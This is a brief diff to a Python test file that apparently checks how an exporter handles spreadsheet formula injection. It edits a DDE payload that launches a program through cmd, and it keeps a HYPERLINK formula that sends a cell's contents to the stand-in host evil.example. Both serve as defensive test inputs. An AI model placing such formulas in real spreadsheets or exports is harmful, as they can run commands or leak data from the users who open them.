@@ -33,7 +33,7 @@ from tests.importers.test_survey import ANSWERS, fill_csv, fill_workbook
 from visualize.formats import BUNDLE_STEMS, bundle_files, bundle_zip, chinese_headers
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-DDE = "=cmd|' /C calc'!A0"
+DDE = "=cmd|' -C calc'!A0"  # ids may not hold '/' (they are URL segments)
 
 
 def formula_org() -> object:
